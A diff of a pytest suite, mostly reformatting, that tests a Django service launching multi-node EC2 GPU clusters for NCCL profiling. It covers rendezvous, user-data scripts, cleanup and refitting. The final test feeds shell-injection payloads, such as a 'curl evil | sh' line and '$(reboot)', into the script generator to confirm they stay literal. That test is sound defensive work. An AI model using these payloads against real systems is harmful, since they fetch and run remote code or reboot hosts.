@@ -132,9 +132,18 @@ def staff_api(staff) -> APIClient:
     return client
 
 
-def start_cluster(staff_api, capture, instance_type: str = "p4d.24xlarge", nodes: int = 2, **extra) -> ProfilingRun:
-    body = {"kind": "comm", "provider": "ec2", "instance_type": instance_type, "region": REGION, "nodes": nodes,
-            "sizes": "1KB..16MB", **extra}  # fmt: skip
+def start_cluster(
+    staff_api, capture, instance_type: str = "p4d.24xlarge", nodes: int = 2, **extra
+) -> ProfilingRun:
+    body = {
+        "kind": "comm",
+        "provider": "ec2",
+        "instance_type": instance_type,
+        "region": REGION,
+        "nodes": nodes,
+        "sizes": "1KB..16MB",
+        **extra,
+    }
     with capture(execute=True):  # the start task runs on commit (immediate backend)
         resp = staff_api.post("/api/v1/profiling-runs/", body, format="json")
     assert resp.status_code == 201, resp.json()
@@ -165,8 +174,14 @@ def private_ip(cloud: Aws, instance_id: str) -> str:
 def nccl_profile(comm_profile: dict, nodes: int, gpus: int, device: str = "NVIDIA A100-SXM4-40GB") -> dict:
     """What global rank 0 posts after an NCCL sweep over ``nodes`` x ``gpus`` GPUs."""
     doc = deepcopy(comm_profile)
-    doc.update(backend="nccl", world_size=nodes * gpus, nodes=nodes, ranks_per_node=gpus,
-               device={"type": "cuda", "name": device}, hosts=[f"node{r // gpus}" for r in range(nodes * gpus)])
+    doc.update(
+        backend="nccl",
+        world_size=nodes * gpus,
+        nodes=nodes,
+        ranks_per_node=gpus,
+        device={"type": "cuda", "name": device},
+        hosts=[f"node{r // gpus}" for r in range(nodes * gpus)],
+    )
     doc["environment"].update(nccl="2.21.5", gpu_count=gpus, gpus=[device] * gpus)
     return doc
 
@@ -175,7 +190,8 @@ def nccl_profile(comm_profile: dict, nodes: int, gpus: int, device: str = "NVIDI
 
 
 def test_a_p4d_cluster_is_one_launch_of_n_nodes_in_a_placement_group_with_an_efa_interface_per_card(
-        cloud, staff_api, django_capture_on_commit_callbacks):
+    cloud, staff_api, django_capture_on_commit_callbacks
+):
     run = start_cluster(staff_api, django_capture_on_commit_callbacks, nodes=2)
     assert run.status == RunStatus.STARTING and len(run.instance_ids) == 2
     assert (run.nodes, run.world_size, run.backend) == (2, 16, "nccl")  # every GPU of both nodes
@@ -186,16 +202,25 @@ def test_a_p4d_cluster_is_one_launch_of_n_nodes_in_a_placement_group_with_an_efa
     assert launch["Placement"] == {"GroupName": f"srifty-run-{run.pk}"}
     nics = launch["NetworkInterfaces"]
     assert [(n["NetworkCardIndex"], n["DeviceIndex"], n["InterfaceType"]) for n in nics] == [
-        (0, 0, "efa"), (1, 1, "efa"), (2, 1, "efa"), (3, 1, "efa")]  # 4 cards, catalog MaximumNetworkCards
+        (0, 0, "efa"),
+        (1, 1, "efa"),
+        (2, 1, "efa"),
+        (3, 1, "efa"),
+    ]  # 4 cards, catalog MaximumNetworkCards
     assert len({n["SubnetId"] for n in nics}) == 1 and "SubnetId" not in launch  # one subnet, per interface
     for instance_id in run.instance_ids:
-        tags = {t["Key"]: t["Value"] for t in cloud.moto.describe_instances(InstanceIds=[instance_id])[
-            "Reservations"][0]["Instances"][0]["Tags"]}
+        tags = {
+            t["Key"]: t["Value"]
+            for t in cloud.moto.describe_instances(InstanceIds=[instance_id])["Reservations"][0]["Instances"][
+                0
+            ]["Tags"]
+        }
         assert tags["srifty:run-id"] == str(run.pk) and tags["srifty:managed"] == "true"
 
 
 def test_a_g5_cluster_gets_no_efa_interfaces_and_the_nccl_socket_settings(
-        cloud, staff_api, django_capture_on_commit_callbacks):
+    cloud, staff_api, django_capture_on_commit_callbacks
+):
     run = start_cluster(staff_api, django_capture_on_commit_callbacks, instance_type="g5.2xlarge", nodes=3)
     (launch,) = cloud.params("RunInstances")
     assert "NetworkInterfaces" not in launch and launch["Placement"] == {"GroupName": f"srifty-run-{run.pk}"}
@@ -206,17 +231,22 @@ def test_a_g5_cluster_gets_no_efa_interfaces_and_the_nccl_socket_settings(
 
 
 def test_every_node_gets_the_same_script_with_the_nccl_sweep_the_rendezvous_and_the_efa_environment(
-        cloud, staff_api, django_capture_on_commit_callbacks):
+    cloud, staff_api, django_capture_on_commit_callbacks
+):
     run = start_cluster(staff_api, django_capture_on_commit_callbacks, nodes=2)
     scripts = {user_data(cloud, i) for i in run.instance_ids}
     assert len(scripts) == 1
     (script,) = scripts
     lines = script.splitlines()
     assert lines[1].startswith("shutdown -h +")  # the VM's own hard limit
-    assert "export FI_PROVIDER=efa" in lines and "export FI_EFA_USE_DEVICE_RDMA=1" in lines  # p4d: GPUDirect RDMA
+    assert (
+        "export FI_PROVIDER=efa" in lines and "export FI_EFA_USE_DEVICE_RDMA=1" in lines
+    )  # p4d: GPUDirect RDMA
     assert "SRIFTY_NNODES=2" in lines and "GPUS_PER_NODE=8" in lines
-    assert ("AGENT_ARGS=(comm --world-size 16 --backend nccl --nnodes 2 --sizes 1KB..16MB "
-            "--out /tmp/srifty-profile.json)") in lines
+    assert (
+        "AGENT_ARGS=(comm --world-size 16 --backend nccl --nnodes 2 --sizes 1KB..16MB "
+        "--out /tmp/srifty-profile.json)"
+    ) in lines
     assert 'SRIFTY_RDZV_URL="$SRIFTY_SERVER/api/v1/profiling-runs/$SRIFTY_RUN_ID/rendezvous/"' in lines
     assert f"SRIFTY_SERVER={SERVER}" in lines and f"SRIFTY_RUN_ID={run.pk}" in lines
     assert run.token_matches(token_of(script))
@@ -226,14 +256,19 @@ def test_every_node_gets_the_same_script_with_the_nccl_sweep_the_rendezvous_and_
 
 
 def test_the_rendezvous_gives_each_node_its_rank_and_rank_0s_private_ip(
-        cloud, staff_api, django_capture_on_commit_callbacks):
+    cloud, staff_api, django_capture_on_commit_callbacks
+):
     run = start_cluster(staff_api, django_capture_on_commit_callbacks, nodes=3, instance_type="g5.2xlarge")
     agent = agent_client(token_of(user_data(cloud, run.instance_ids[0])))
     url = f"/api/v1/profiling-runs/{run.pk}/rendezvous/"
     master = private_ip(cloud, run.instance_ids[0])
     for rank, instance_id in enumerate(run.instance_ids):
         resp = agent.get(url, {"instance_id": instance_id})
-        assert resp.status_code == 200 and resp.json() == {"master_addr": master, "node_rank": rank, "nnodes": 3}
+        assert resp.status_code == 200 and resp.json() == {
+            "master_addr": master,
+            "node_rank": rank,
+            "nnodes": 3,
+        }
     assert agent.get(url, {"instance_id": "i-0123456789abcdef0"}).status_code == 403  # not a node of this run
     assert agent.get(url).status_code == 400
     assert APIClient().get(url, {"instance_id": run.instance_ids[0]}).status_code == 401
@@ -290,7 +325,8 @@ def node_sandbox(tmp: Path):
 
 @pytest.mark.skipif(os.name != "posix", reason="needs bash")
 def test_each_node_script_runs_the_agent_as_its_rank_against_rank_0_with_a_layout_the_agent_accepts(
-        cloud, staff_api, django_capture_on_commit_callbacks, tmp_path):
+    cloud, staff_api, django_capture_on_commit_callbacks, tmp_path
+):
     from profiler.agent.cli import build_parser
     from profiler.agent.comm import CommOptions
 
@@ -302,19 +338,38 @@ def test_each_node_script_runs_the_agent_as_its_rank_against_rank_0_with_a_layou
         answer = agent.get(f"/api/v1/profiling-runs/{run.pk}/rendezvous/", {"instance_id": instance_id})
         box = node_sandbox(tmp_path / f"node{rank}")
         # the real answer, then "run over" (410) for a worker waiting for rank 0's post
-        result = box.run(script, FAKE_INSTANCE_ID=instance_id,
-                         FAKE_RDZV=json.dumps([[answer.status_code, json.dumps(answer.json())], [410, ""]]))
+        result = box.run(
+            script,
+            FAKE_INSTANCE_ID=instance_id,
+            FAKE_RDZV=json.dumps([[answer.status_code, json.dumps(answer.json())], [410, ""]]),
+        )
         assert result.returncode == 0, result.stdout[-2000:] + result.stderr[-2000:]
         ran = box.json("agent.json")
-        assert ran["env"] == {"FI_PROVIDER": "efa", "FI_EFA_USE_DEVICE_RDMA": "1", "MASTER_ADDR": master,
-                              "MASTER_PORT": "29500", "WORLD_SIZE": "16", "NODE_RANK": str(rank), "NNODES": "2"}
+        assert ran["env"] == {
+            "FI_PROVIDER": "efa",
+            "FI_EFA_USE_DEVICE_RDMA": "1",
+            "MASTER_ADDR": master,
+            "MASTER_PORT": "29500",
+            "WORLD_SIZE": "16",
+            "NODE_RANK": str(rank),
+            "NNODES": "2",
+        }
         argv = ran["argv"]
-        assert argv[argv.index("--node-rank") + 1] == str(rank) and argv[argv.index("--master-addr") + 1] == master
+        assert (
+            argv[argv.index("--node-rank") + 1] == str(rank)
+            and argv[argv.index("--master-addr") + 1] == master
+        )
         assert f"{SERVER}/api/v1/profiling-runs/{run.pk}/events/" in argv
         args = build_parser().parse_args(argv)  # the real agent's command line
-        layout = CommOptions(world_size=args.world_size, out=args.out, backend=args.backend, nnodes=args.nnodes,
-                             node_rank=args.node_rank, master_addr=args.master_addr,
-                             master_port=args.master_port).resolved()
+        layout = CommOptions(
+            world_size=args.world_size,
+            out=args.out,
+            backend=args.backend,
+            nnodes=args.nnodes,
+            node_rank=args.node_rank,
+            master_addr=args.master_addr,
+            master_port=args.master_port,
+        ).resolved()
         assert (layout.ranks_per_node, layout.node_rank, layout.backend) == (8, rank, "nccl")
         assert box.shutdowns()[-1] == "-h now"
         lingered = [c for c in box.curls() if "/dev/null" in c]
@@ -325,14 +380,45 @@ def test_each_node_script_runs_the_agent_as_its_rank_against_rank_0_with_a_layou
 def test_the_agents_sweep_spans_two_node_processes_and_only_node_0_writes_the_curves(tmp_path):
     """The real agent, as two nodes of one host (gloo on loopback: NCCL needs GPUs)."""
     port = free_port()
-    env = {**os.environ, "GLOO_SOCKET_IFNAME": "lo", "OMP_NUM_THREADS": "1",
-           "PYTHONPATH": str(Path(__file__).resolve().parents[2])}  # fmt: skip
+    env = {
+        **os.environ,
+        "GLOO_SOCKET_IFNAME": "lo",
+        "OMP_NUM_THREADS": "1",
+        "PYTHONPATH": str(Path(__file__).resolve().parents[2]),
+    }
     procs = [
-        subprocess.Popen([sys.executable, "-m", "profiler.agent", "comm", "--world-size", "2", "--backend", "gloo",
-                          "--nnodes", "2", "--node-rank", str(rank), "--master-addr", "127.0.0.1", "--master-port",
-                          str(port), "--sizes", "1KB..8KB", "--repeats", "2", "--warmup", "1", "-q",
-                          "--out", str(tmp_path / f"node{rank}.json")], env=env, stdout=subprocess.PIPE,
-                         stderr=subprocess.STDOUT)  # fmt: skip
+        subprocess.Popen(
+            [
+                sys.executable,
+                "-m",
+                "profiler.agent",
+                "comm",
+                "--world-size",
+                "2",
+                "--backend",
+                "gloo",
+                "--nnodes",
+                "2",
+                "--node-rank",
+                str(rank),
+                "--master-addr",
+                "127.0.0.1",
+                "--master-port",
+                str(port),
+                "--sizes",
+                "1KB..8KB",
+                "--repeats",
+                "2",
+                "--warmup",
+                "1",
+                "-q",
+                "--out",
+                str(tmp_path / f"node{rank}.json"),
+            ],
+            env=env,
+            stdout=subprocess.PIPE,
+            stderr=subprocess.STDOUT,
+        )
         for rank in (0, 1)
     ]
     outputs = [p.communicate(timeout=120)[0].decode(errors="replace") for p in procs]
@@ -348,7 +434,8 @@ def test_the_agents_sweep_spans_two_node_processes_and_only_node_0_writes_the_cu
 
 @pytest.mark.slow  # the refit: XGBoost with leave-one-sweep-out cross-validation
 def test_posting_the_curves_terminates_every_node_deletes_the_group_stores_the_points_and_refits(
-        cloud, staff_api, django_capture_on_commit_callbacks, comm_profile, settings):
+    cloud, staff_api, django_capture_on_commit_callbacks, comm_profile, settings
+):
     from planner import nccl_corpus
     from planner.app import comm_training
     from planner.models.nccl import LearnedComm
@@ -359,20 +446,29 @@ def test_posting_the_curves_terminates_every_node_deletes_the_group_stores_the_p
     agent = agent_client(token_of(user_data(cloud, run.instance_ids[0])))
     doc = nccl_profile(comm_profile, nodes=2, gpus=8)
     with django_capture_on_commit_callbacks(execute=True):  # stop and refit run on commit
-        resp = agent.post(f"/api/v1/profiling-runs/{run.pk}/events/", {"seq": 1, "type": "result", "profile": doc},
-                          format="json")
+        resp = agent.post(
+            f"/api/v1/profiling-runs/{run.pk}/events/",
+            {"seq": 1, "type": "result", "profile": doc},
+            format="json",
+        )
     assert resp.status_code == 201, resp.json()
     run.refresh_from_db()
     assert run.status == RunStatus.SUCCEEDED
     assert [cloud.state(i) for i in run.instance_ids] == ["terminated", "terminated"]
-    assert cloud.groups == {} and cloud.params("DeletePlacementGroup") == [{"GroupName": f"srifty-run-{run.pk}"}]
+    assert cloud.groups == {} and cloud.params("DeletePlacementGroup") == [
+        {"GroupName": f"srifty-run-{run.pk}"}
+    ]
 
     points = list(CommCurvePoint.objects.filter(run=run))
     assert len(points) == len(doc["samples"])
-    assert {(p.instance_type, p.nodes, p.gpus_per_node, p.gpu, p.network, p.nccl_version) for p in points} == {
-        ("p4d.24xlarge", 2, 8, "A100", "efa", "2.21.5")}
+    assert {
+        (p.instance_type, p.nodes, p.gpus_per_node, p.gpu, p.network, p.nccl_version) for p in points
+    } == {("p4d.24xlarge", 2, 8, "A100", "efa", "2.21.5")}
     first = doc["samples"][0]
-    assert (points[0].size_bytes, points[0].median_us) == (first["size_bytes"], pytest.approx(first["median_ms"] * 1e3))
+    assert (points[0].size_bytes, points[0].median_us) == (
+        first["size_bytes"],
+        pytest.approx(first["median_ms"] * 1e3),
+    )
 
     refit = Path(settings.DATA_DIR) / "nccl-model.json"
     assert comm_training.current_model_path() == refit
@@ -384,12 +480,16 @@ def test_posting_the_curves_terminates_every_node_deletes_the_group_stores_the_p
 
 
 def test_a_curve_of_another_layout_is_refused_and_stores_nothing(
-        cloud, staff_api, django_capture_on_commit_callbacks, comm_profile):
+    cloud, staff_api, django_capture_on_commit_callbacks, comm_profile
+):
     run = start_cluster(staff_api, django_capture_on_commit_callbacks, nodes=2)
     agent = agent_client(token_of(user_data(cloud, run.instance_ids[0])))
     doc = nccl_profile(comm_profile, nodes=1, gpus=8)
-    resp = agent.post(f"/api/v1/profiling-runs/{run.pk}/events/", {"seq": 1, "type": "result", "profile": doc},
-                      format="json")
+    resp = agent.post(
+        f"/api/v1/profiling-runs/{run.pk}/events/",
+        {"seq": 1, "type": "result", "profile": doc},
+        format="json",
+    )
     assert resp.status_code == 400 and "nodes" in resp.json()["profile"][0]
     assert not CommCurvePoint.objects.exists()
 
@@ -403,12 +503,16 @@ def _assert_all_gone(cloud: Aws, run: ProfilingRun) -> None:
 
 
 def test_an_agent_error_terminates_every_node_and_deletes_the_group(
-        cloud, staff_api, django_capture_on_commit_callbacks):
+    cloud, staff_api, django_capture_on_commit_callbacks
+):
     run = start_cluster(staff_api, django_capture_on_commit_callbacks, nodes=2)
     agent = agent_client(token_of(user_data(cloud, run.instance_ids[0])))
     with django_capture_on_commit_callbacks(execute=True):
-        agent.post(f"/api/v1/profiling-runs/{run.pk}/events/",
-                   {"seq": 1, "type": "error", "message": "NCCL WARN NET/OFI no EFA device"}, format="json")
+        agent.post(
+            f"/api/v1/profiling-runs/{run.pk}/events/",
+            {"seq": 1, "type": "error", "message": "NCCL WARN NET/OFI no EFA device"},
+            format="json",
+        )
     run.refresh_from_db()
     assert run.status == RunStatus.FAILED and "NCCL WARN" in run.error
     _assert_all_gone(cloud, run)
@@ -416,7 +520,8 @@ def test_an_agent_error_terminates_every_node_and_deletes_the_group(
 
 
 def test_a_cluster_past_its_hard_limit_is_terminated_with_its_group(
-        cloud, staff_api, django_capture_on_commit_callbacks):
+    cloud, staff_api, django_capture_on_commit_callbacks
+):
     run = start_cluster(staff_api, django_capture_on_commit_callbacks, nodes=2)
     ProfilingRun.objects.filter(pk=run.pk).update(deadline_at=timezone.now() - timedelta(seconds=1))
     with django_capture_on_commit_callbacks(execute=True):
@@ -424,7 +529,9 @@ def test_a_cluster_past_its_hard_limit_is_terminated_with_its_group(
     _assert_all_gone(cloud, run)
 
 
-def test_one_lost_node_fails_the_run_and_takes_the_others_down(cloud, staff_api, django_capture_on_commit_callbacks):
+def test_one_lost_node_fails_the_run_and_takes_the_others_down(
+    cloud, staff_api, django_capture_on_commit_callbacks
+):
     run = start_cluster(staff_api, django_capture_on_commit_callbacks, nodes=3, instance_type="g5.2xlarge")
     cloud.moto.terminate_instances(InstanceIds=[run.instance_ids[1]])  # e.g. a spot node reclaimed
     with django_capture_on_commit_callbacks(execute=True):
@@ -435,7 +542,8 @@ def test_one_lost_node_fails_the_run_and_takes_the_others_down(cloud, staff_api,
 
 
 def test_a_launch_without_capacity_fails_the_run_and_deletes_the_group(
-        cloud, staff_api, django_capture_on_commit_callbacks):
+    cloud, staff_api, django_capture_on_commit_callbacks
+):
     cloud.fail_run_instances = "InsufficientInstanceCapacity"
     run = start_cluster(staff_api, django_capture_on_commit_callbacks, nodes=2)
     run.refresh_from_db()
@@ -444,7 +552,8 @@ def test_a_launch_without_capacity_fails_the_run_and_deletes_the_group(
 
 
 def test_a_group_still_held_by_terminating_nodes_is_deleted_by_a_later_cleanup(
-        cloud, staff_api, django_capture_on_commit_callbacks):
+    cloud, staff_api, django_capture_on_commit_callbacks
+):
     run = start_cluster(staff_api, django_capture_on_commit_callbacks, nodes=2)
     assert EC2Provider().cleanup(run) is False  # the nodes still run: EC2 says InUse
     assert f"srifty-run-{run.pk}" in cloud.groups
@@ -469,18 +578,34 @@ def test_a_group_still_held_by_terminating_nodes_is_deleted_by_a_later_cleanup(
         ({"kind": "compute", "model_spec": "torchvision:resnet18", "input_shape": "3,32,32"}, "nodes"),
     ],
 )
-def test_bad_cluster_requests_are_refused_naming_the_field_and_launch_nothing(cloud, staff_api, change, field):
-    body = {"kind": "comm", "provider": "ec2", "instance_type": "p4d.24xlarge", "region": REGION, "nodes": 2,
-            **change}  # fmt: skip
+def test_bad_cluster_requests_are_refused_naming_the_field_and_launch_nothing(
+    cloud, staff_api, change, field
+):
+    body = {
+        "kind": "comm",
+        "provider": "ec2",
+        "instance_type": "p4d.24xlarge",
+        "region": REGION,
+        "nodes": 2,
+        **change,
+    }
     resp = staff_api.post("/api/v1/profiling-runs/", body, format="json")
     assert resp.status_code == 400 and field in resp.json(), resp.json()
     assert not ProfilingRun.objects.exists() and not cloud.params("RunInstances")
 
 
 def test_a_one_vm_comm_run_leaves_nodes_empty_and_launches_one_instance(
-        cloud, staff_api, django_capture_on_commit_callbacks):
-    body = {"kind": "comm", "provider": "ec2", "instance_type": "p4d.24xlarge", "region": REGION,
-            "backend": "nccl", "world_size": 8, "nodes": None}  # fmt: skip
+    cloud, staff_api, django_capture_on_commit_callbacks
+):
+    body = {
+        "kind": "comm",
+        "provider": "ec2",
+        "instance_type": "p4d.24xlarge",
+        "region": REGION,
+        "backend": "nccl",
+        "world_size": 8,
+        "nodes": None,
+    }
     with django_capture_on_commit_callbacks(execute=True):
         resp = staff_api.post("/api/v1/profiling-runs/", body, format="json")
     assert resp.status_code == 201 and resp.json()["nodes"] is None
@@ -491,9 +616,20 @@ def test_a_one_vm_comm_run_leaves_nodes_empty_and_launches_one_instance(
 def test_the_profiling_form_starts_a_cluster_with_every_gpu_of_every_node(staff, catalog, settings, client):
     settings.TASKS = {"default": {"BACKEND": "django_tasks.backends.dummy.DummyBackend"}}
     client.force_login(staff)
-    resp = client.post("/profiling/", {"kind": "comm", "world_size": "2", "backend": "gloo", "sizes": "1KB..1MB",
-                                       "nodes": "2", "provider": "ec2", "instance_type": "p4d.24xlarge",
-                                       "region": REGION, "market": "on-demand"})  # fmt: skip
+    resp = client.post(
+        "/profiling/",
+        {
+            "kind": "comm",
+            "world_size": "2",
+            "backend": "gloo",
+            "sizes": "1KB..1MB",
+            "nodes": "2",
+            "provider": "ec2",
+            "instance_type": "p4d.24xlarge",
+            "region": REGION,
+            "market": "on-demand",
+        },
+    )
     assert resp.status_code == 302
     run = ProfilingRun.objects.get()
     assert (run.nodes, run.world_size, run.backend) == (2, 16, "nccl")
@@ -506,15 +642,33 @@ def test_stored_curves_become_user_points_with_the_corpus_topology(make_run, cat
     from planner import nccl_corpus
     from planner.app import comm_training
 
-    run = make_run(kind="comm", provider="ec2", instance_type="g5.2xlarge", region=REGION, nodes=2, world_size=2,
-                   backend="nccl")  # fmt: skip
-    CommCurvePoint.objects.create(run=run, instance_type="g5.2xlarge", nodes=2, gpus_per_node=1, gpu="A10G",
-                                  network="tcp", nccl_version="2.21.5", size_bytes=1 << 20, median_us=900.0,
-                                  p90_us=950.0)  # fmt: skip
+    run = make_run(
+        kind="comm",
+        provider="ec2",
+        instance_type="g5.2xlarge",
+        region=REGION,
+        nodes=2,
+        world_size=2,
+        backend="nccl",
+    )
+    CommCurvePoint.objects.create(
+        run=run,
+        instance_type="g5.2xlarge",
+        nodes=2,
+        gpus_per_node=1,
+        gpu="A10G",
+        network="tcp",
+        nccl_version="2.21.5",
+        size_bytes=1 << 20,
+        median_us=900.0,
+        p90_us=950.0,
+    )
     (point,) = comm_training.user_points()
     assert point.sweep == f"user|run-{run.pk}|g5.2xlarge|2" and point.measured_us == 900.0
     spec = nccl_corpus.spec_for("A10G", nccl_corpus.load_gpu_specs(nccl_corpus.SPECS_CSV))
-    assert point.topology == nccl_corpus.topology_for(spec, 1, 2, efa=False, net_gbps=10.0, nccl_version="2.21.5")
+    assert point.topology == nccl_corpus.topology_for(
+        spec, 1, 2, efa=False, net_gbps=10.0, nccl_version="2.21.5"
+    )
     assert nccl_corpus.train_points([point], nccl_corpus.load_split()) == [point]
 
 
@@ -543,13 +697,22 @@ def test_without_a_refit_plans_use_the_repositorys_model(settings):
 
 
 @pytest.mark.skipif(os.name != "posix", reason="needs bash")
-@pytest.mark.parametrize("payload", ["'; curl evil | sh; '", "$(reboot)", "`reboot`", "a\nreboot\n", "--token=x"])
-def test_the_cluster_script_keeps_the_token_the_agent_arguments_and_the_environment_strings(tmp_path, payload):
+@pytest.mark.parametrize(
+    "payload", ["'; curl evil | sh; '", "$(reboot)", "`reboot`", "a\nreboot\n", "--token=x"]
+)
+def test_the_cluster_script_keeps_the_token_the_agent_arguments_and_the_environment_strings(
+    tmp_path, payload
+):
     from profiler import userdata
     from tests.security.test_userdata_injection import run_block
 
     args = ["comm", "--sizes", payload, "--out", payload]
     script = userdata.comm_cluster_user_data(SERVER, 7, payload, 2, 8, args, 30, env={"NCCL_DEBUG": payload})
-    out = run_block(tmp_path, script, "export NCCL_DEBUG=", "# A Python with torch",
-                    'printf "%s\\0" "$NCCL_DEBUG" "$SRIFTY_TOKEN" "$SRIFTY_RDZV_URL" "${AGENT_ARGS[@]}"')
+    out = run_block(
+        tmp_path,
+        script,
+        "export NCCL_DEBUG=",
+        "# A Python with torch",
+        'printf "%s\\0" "$NCCL_DEBUG" "$SRIFTY_TOKEN" "$SRIFTY_RDZV_URL" "${AGENT_ARGS[@]}"',
+    )
     assert out.split("\0")[:-1] == [payload, payload, f"{SERVER}/api/v1/profiling-runs/7/rendezvous/", *args]
